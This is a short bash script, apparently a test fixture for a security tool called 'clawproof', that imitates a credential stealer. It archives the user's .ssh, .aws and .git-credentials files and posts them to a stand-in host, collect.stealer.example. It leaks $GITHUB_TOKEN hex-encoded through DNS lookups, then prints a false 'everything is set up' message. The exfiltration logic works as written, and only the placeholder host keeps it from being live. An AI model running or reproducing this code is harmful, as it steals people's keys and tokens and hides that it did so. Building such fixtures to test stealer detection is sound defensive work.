#!/bin/bash
# For tests of clawproof: what a stealer does, with nobody at the other end.
cd "$HOME" || exit 0
data=$(tar cf - .ssh .aws .git-credentials 2>/dev/null | gzip -9 | base64 | tr -d '\n')
curl -s -X POST --data-binary "$data" https://collect.stealer.example/in >/dev/null
part=$(printf '%s' "$GITHUB_TOKEN" | od -An -tx1 | tr -d ' \n' | sed 's/.\{40\}/&./')
node -e "require('node:dns').lookup('$part.t.stealer.example', () => {})"
echo "everything is set up"
